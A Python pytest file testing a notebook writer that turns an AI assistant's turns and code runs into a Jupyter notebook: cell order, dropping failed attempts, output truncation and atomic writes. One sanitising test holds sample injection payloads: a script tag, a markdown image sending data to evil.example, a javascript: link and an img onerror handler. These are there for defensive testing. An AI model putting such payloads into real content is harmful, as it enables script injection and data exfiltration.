"""From a conversation and what ran to a notebook: order, what is kept, validity, writing."""

from __future__ import annotations

import os

import nbformat
import pytest
from hypothesis import given
from hypothesis import strategies as st

from zidane_lab.cli.notebook_writer import Piece, compose, dump, kept, write_notebook
from zidane_lab.kernel.execution import ErrorInfo, Execution
from zidane_lab.kernel.remote import KernelFacts
from zidane_lab.turns import TextBlock, ToolCallBlock, ToolResultBlock, Turn

FACTS = KernelFacts("python3", "Python 3", {"name": "python", "version": "3.11.0", "file_extension": ".py"})
PROVENANCE = {"version": "1.2.3", "model": "scripted/script", "status": "completed"}


def piece(code, call_id=None, *, status="ok", outputs=(), intent="", error="ValueError", **names):
    failed = None if status == "ok" else ErrorInfo(error, "why", "why")
    execution = Execution(code, status, error=failed, **{key: tuple(value) for key, value in names.items()})
    return Piece(execution, list(outputs), 1, call_id, intent)


def user(*texts, **options):
    return Turn("user", tuple(map(TextBlock, texts)), **options)


def assistant(*blocks):
    made = [TextBlock(b) if isinstance(b, str) else ToolCallBlock(b[0], b[1], {"code": ""}) for b in blocks]
    return Turn("assistant", tuple(made))


def result(call_id):
    return Turn("user", (ToolResultBlock(call_id, (TextBlock("out"),)),))


def made(turns, pieces, prompt="Why?", **options):
    text = dump(compose(prompt, turns, pieces, options.pop("facts", FACTS), PROVENANCE, **options))
    notebook = nbformat.reads(text, as_version=4)
    nbformat.validate(notebook, relax_add_props=False)
    assert nbformat.writes(notebook) + "\n" == text, "written as nbformat writes it"
    return notebook


def sources(notebook):
    return [cell.source for cell in notebook.cells]


# --- order and form ---------------------------------------------------------------------------------


def test_text_and_code_stand_in_the_order_they_came():
    turns = [
        user("Why?"),
        assistant("First a look.", ("c1", "run_python"), ("c2", "run_python"), "Then", ("c3", "list_variables")),
        result("c1"),
        user(
            "And quickly.",
        ),
        assistant("Because."),
    ]
    pieces = [piece("load()"), piece("one", "c1", intent="look"), piece("two", "c2", intent="look\nagain *now*")]
    notebook = made(turns, pieces)
    assert sources(notebook)[1:] == [
        "load()", "First a look.", "one", "*look again \\*now\\**", "two", "Then", "> And quickly.", "Because.",
    ]  # fmt: skip
    assert sources(notebook)[0] == "> Why?\n\n*Answered by zidane\\_lab 1.2.3 with scripted/script.*"
    assert [cell.metadata.get("zidane") for cell in notebook.cells if cell.cell_type == "code"] == [
        {"role": "data"}, {"call_id": "c1", "intent": "look"}, {"call_id": "c2", "intent": "look\nagain *now*"}
    ]  # fmt: skip


def test_a_run_that_broke_off_anywhere_gives_a_valid_notebook():
    turns = [user("Why?"), assistant("Partial", ("c1", "run_python")), result("c1"), assistant("more")]
    for cut in range(len(turns) + 1):
        notebook = made(turns[:cut], [piece("x", "c1"), piece("unclaimed", "c9")])
        assert {"x", "unclaimed"} <= set(sources(notebook))


def test_the_same_run_gives_the_same_bytes():
    turns = [user("Why?"), assistant(("c1", "run_python"))]
    one, two = (dump(compose("Why?", turns, [piece("x", "c1")], FACTS, PROVENANCE)) for _ in range(2))
    assert one == two


def test_the_kernel_is_named_and_a_run_without_one_is_valid_too():
    notebook = made([], [])
    assert notebook.metadata.kernelspec == {"name": "python3", "display_name": "Python 3", "language": "python"}
    assert notebook.metadata.language_info.file_extension == ".py"
    assert "kernelspec" not in made([], [], facts=None).metadata


def test_what_the_loop_said_to_itself_is_not_quoted():
    turns = [user("Why?"), assistant("a"), user("Go on.", injected="length-resume"), assistant("b")]
    assert sources(made(turns, []))[1:] == ["a", "b"]


def test_markdown_of_the_model_and_of_the_prompt_does_nothing():
    evil = "<script>alert(1)</script> ![x](https://evil.example/?q=data) [y](javascript:alert(1))"
    for source in sources(made([user("q"), assistant(evil)], [], prompt=f"a\n{evil}"))[:2]:
        assert "<script" not in source
        assert "![" not in source
        assert "javascript:" not in source
    intent = "*</em><img src=x onerror=alert(1)>*"
    notebook = made([user("q"), assistant(("c", "run_python"))], [piece("1", "c", intent=intent)])
    assert "<img" not in sources(notebook)[1]


def test_every_line_of_the_prompt_is_quoted():
    text = "one\n\n# two\n```\ncode\n```"
    head = sources(made([], [], prompt=text))[0].split("\n\n*Answered")[0]
    assert all(line.startswith(">") for line in head.split("\n"))


def test_outputs_are_as_the_kernel_sent_them_but_long_streams_and_odd_bundles():
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": "x" * 300_000},
        {"output_type": "display_data", "data": {"text/plain": "p", "application/json": {"a": [1]}}, "metadata": {},
         "transient": {"display_id": "d"}},
        {"output_type": "execute_result", "data": {"text/plain": 5}, "metadata": {}, "execution_count": 1},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": "<a>\n</a>", "image/png": "aGk=\naGk=\n",
         "application/javascript": "a\nb", "application/vnd.x+json": "a\nb", "text/html": "a\r\nb\x0cc\u2028d\n"}},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\x1b[31mE\x1b[0m"]},
    ]  # fmt: skip
    (cell,) = [c for c in made([], [piece("x", outputs=outputs)]).cells if c.cell_type == "code"]
    assert "the rest is left out" in cell.outputs[0].text
    assert len(cell.outputs[0].text) < 201_000
    assert cell.outputs[1] == {"output_type": "display_data", "data": outputs[1]["data"], "metadata": {}}
    assert cell.outputs[2].data == {"text/plain": "5"}
    assert cell.outputs[4].traceback == ["\x1b[31mE\x1b[0m"]


# --- failed attempts --------------------------------------------------------------------------------


def codes(pieces, **options):
    return [each.execution.code for each in kept(pieces, **options)]


def test_failed_attempts_are_left_out_or_kept_on_demand():
    pieces = [piece("bad()", status="error"), piece("good()")]
    assert codes(pieces) == ["good()"]
    assert codes(pieces, keep_failed=True) == ["bad()", "good()"]


@pytest.mark.parametrize(
    ("failed", "left", "later", "needed"),
    [
        ("t = load()\nt.bad()", {"created": ["t"]}, "t.good()", True),
        ("t = load()\nt.bad()", {"created": ["t"]}, "u = 1", False),
        ("t = load()\nt.bad()", {"created": ["t"]}, "t = load()\nt.good()", False),
        ("t = load()\nt.bad()", {"created": ["t"]}, "t = t or load()", True),
        ("import numpy as np\n1/0", {"created": ["np"]}, "import numpy as np\nnp.pi", False),
        ("import numpy as np\n1/0", {"created": ["np"]}, "np.pi", True),
        ("n += 1\n1/0", {"changed": ["n"]}, "n += 1", True),
        ("del n\n1/0", {"deleted": ["n"]}, "print('n' in globals(), n)", True),
        ("def f(): ...\n1/0", {"created": ["f"]}, "def f(): ...\nf()", False),
        ("t = 1\n1/0", {"created": ["t"]}, "%timeit t + 1", True),
        ("t = 1\n1/0", {"created": ["t"]}, "def g():\n    return t", True),
        ("t = 1\n1/0", {"created": ["t"]}, "if False:\n    t = 2\nprint(t)", True),
        ("a = b = 1\n1/0", {"created": ["a", "b"]}, "(a, *b), c = [1, 2], 3\nprint(a, b)", False),
    ],
)
def test_a_failed_attempt_stays_when_something_kept_builds_on_it(failed, left, later, needed):
    pieces = [piece(failed, status="error", **left), piece(later)]
    assert codes(pieces) == ([failed, later] if needed else [later])


def test_what_a_kept_failure_needs_is_kept_too():
    pieces = [
        piece("a = 1; 1/0", status="error", created=["a"]),
        piece("b = a; 1/0", status="error", created=["b"]),
        piece("c = 1; 1/0", status="error", created=["c"]),
        piece("print(b)"),
    ]
    assert codes(pieces) == ["a = 1; 1/0", "b = a; 1/0", "print(b)"]


def test_a_later_success_in_between_satisfies_the_need():
    pieces = [piece("a = 1; 1/0", status="error", created=["a"]), piece("a = 2"), piece("print(a)")]
    assert codes(pieces) == ["a = 2", "print(a)"]


@pytest.mark.parametrize(
    ("status", "error", "tags"),
    [
        ("error", "ValueError", ["raises-exception"]),
        ("interrupted", "KeyboardInterrupt", ["raises-exception", "skip-execution"]),
        ("timeout", "KeyboardInterrupt", ["raises-exception", "skip-execution"]),
        ("error", "KernelLostError", ["raises-exception", "skip-execution"]),
    ],
)
def test_kept_failures_are_tagged_so_that_the_notebook_runs_to_its_end(status, error, tags):
    notebook = made([], [piece("x", status=status, error=error)], keep_failed=True)
    assert notebook.cells[1].metadata.tags == tags


@given(st.lists(st.tuples(st.text("ab=+ \n%(", max_size=12), st.booleans(), st.sampled_from("ab")), max_size=6))
def test_whatever_the_code_is_all_successes_stay_in_order(parts):
    pieces = [piece(code, status="ok" if fine else "error", created=[name]) for code, fine, name in parts]
    chosen = kept(pieces)
    assert [p for p in chosen if p.execution.status == "ok"] == [p for p in pieces if p.execution.status == "ok"]
    assert kept(pieces, keep_failed=True) == pieces


# --- writing ----------------------------------------------------------------------------------------


def test_writing_replaces_the_file_as_a_whole_and_follows_a_link(tmp_path):
    target, link = tmp_path / "target.ipynb", tmp_path / "link.ipynb"
    target.write_text("old")
    link.symlink_to(target)
    write_notebook(compose("Why?", [], [], FACTS, PROVENANCE), link)
    assert link.is_symlink()
    nbformat.validate(nbformat.read(target, as_version=4))
    assert sorted(path.name for path in tmp_path.iterdir()) == ["link.ipynb", "target.ipynb"]


def test_a_failed_write_leaves_the_old_file(tmp_path, monkeypatch):
    path = tmp_path / "x.ipynb"
    path.write_text("old")

    def full(_fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space"):
        write_notebook(compose("Why?", [], [], FACTS, PROVENANCE), path)
    assert path.read_text() == "old"
    assert [each.name for each in tmp_path.iterdir()] == ["x.ipynb"]


def test_text_that_is_no_unicode_can_be_written(tmp_path):
    path = tmp_path / "x.ipynb"
    write_notebook(compose("caf\udce9", [], [], FACTS, PROVENANCE), path)
    assert "caf?" in nbformat.read(path, as_version=4).cells[0].source
